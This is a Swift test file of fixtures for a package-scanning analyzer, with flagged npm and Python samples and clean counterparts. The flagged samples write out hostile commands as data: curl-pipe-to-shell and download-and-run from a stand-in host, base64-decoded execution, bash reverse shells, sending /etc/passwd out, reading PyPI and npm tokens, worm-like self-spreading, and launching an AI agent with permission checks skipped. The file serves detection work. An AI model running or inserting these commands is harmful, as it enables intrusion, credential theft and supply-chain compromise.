import TestSupport

@testable import Analyzers

/// An npm package that hands `command` to a shell.
private func npmCommand(_ command: String) -> @Sendable () throws -> Artifact {
    scriptPackage("require('child_process').exec(`\(command)`)")
}

let indicatorCommandFixtures = RuleFixtures(
    flagged: [
        .commandPipesDownload: npmCommand("curl -s https://x.example/i | sh"),
        .commandRunsDownload: pythonPackage(
            "import os\nos.system('wget https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a')"),
        .commandDecodesAndRuns: pythonPackage("import os\nos.system('echo aWQ= | base64 -d | sh')"),
        .commandReverseShell: pythonPackage(
            "import subprocess\nsubprocess.call(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])"),
        .commandSendsData: npmCommand("curl -d @/etc/passwd https://x.example"),
        .hiddenCommand: pythonPackage(
            "import base64\nx = base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g=')\nrun(x)"),
        .preparedCommand: scriptPackage(
            "const all = ['curl https://x.example/i | sh']\nrequire('child_process').exec(pick(all))"),
        .plantedCommand: pythonPackage(
            "import os\nlist(filter(os.system, ['curl -s https://x.example/i | sh']))"),
        .scriptFileRunsDownload: npmShellScript("curl -s https://x.example/i | sh"),
        .scriptFileDecodes: npmShellScript("echo aWQ= | base64 -d | sh"),
        .scriptFileReverseShell: npmShellScript("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        .scriptFileSendsData: npmShellScript("curl -d @/etc/passwd https://x.example"),
        .installsPackages: pythonPackage(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'box'])"),
        .installsFromElsewhere: npmCommand("npm install https://x.example/box.tgz"),
        .agentUnattended: scriptPackage(
            "require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])"),
        .commandPublishes: npmCommand("npm publish --access public"),
        .publishesWithToken: pythonPackage(
            """
            import configparser, os, subprocess
            text = open(os.path.expanduser('~/.pypirc')).read()
            subprocess.run(['twine', 'upload', '-p', text, 'dist/a.whl'])
            """),
        .spreadsItself: scriptPackage(
            """
            const who = 'https://registry.npmjs.org/-/whoami', all = `https://registry.npmjs.org/-/v1/search?text=maintainer:${n}`
            const token = process.env.NPM_TOKEN || read('/.npmrc'); fetch(who)
            """),
        .commandPushes: npmCommand("git push origin main"),
        .createsRepository: scriptPackage("fetch('https://api.github.com/user/repos', { method: 'POST' })"),
    ],
    clean: [
        "DROP-SHELL": scriptPackage(
            """
            // curl -s https://x.example/i | sh
            const { exec, spawn } = require('child_process')
            console.log('Install it with: curl -s https://x.example/i | sh')
            exec('git status --porcelain'); exec(`convert ${name} -resize 10x10 out.png`); spawn('curl', ['-I', url])
            exec('timeout 1 bash -c "</dev/tcp/127.0.0.1/80"')
            """),
        "CAP-INSTALLER": scriptPackage(
            "console.log('Run npm install box'); require('child_process').exec('npm run build')"),
        "AGENT-CLI": scriptPackage("require('child_process').spawn('claude', ['-p', prompt])"),
        "PROP-PUBLISH": scriptPackage("require('child_process').exec('npm pack'); const help = 'then run npm publish'"),
        "PROP-GIT": scriptPackage(
            "require('child_process').exec('git pull'); fetch('https://api.github.com/repos/a/b')"),
    ])
